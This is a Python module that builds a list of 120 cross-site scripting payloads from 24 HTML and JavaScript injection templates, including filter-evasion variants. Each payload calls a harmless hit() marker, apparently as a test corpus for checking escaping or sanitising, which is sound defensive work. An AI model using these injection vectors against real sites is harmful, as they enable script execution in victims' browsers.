"""120 texts that run where somebody forgot to treat a name as text; each that runs calls `hit()`."""

from __future__ import annotations

from itertools import islice, product

CALLS = ("hit(1)", "top.hit(1)", "hit`1`", "self['hit'](1)", "parent.hit(1)")
FORMS = (
    "<script>{0}</script>",
    "<SCRIPT/x>{0}</SCRIPT>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'>",
    '"><img src=x onerror="{0}">',
    "'><svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</script><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<a href=javascript:{0}>x</a>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    '" onmouseover="{0}" x="',
    "' autofocus onfocus='{0}' x='",
    "<details open ontoggle={0}>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "${{{0}}}",
    "{{{{ {0} }}}}",
)
PAYLOADS: tuple[str, ...] = tuple(form.format(call) for form, call in islice(product(FORMS, CALLS), 120))
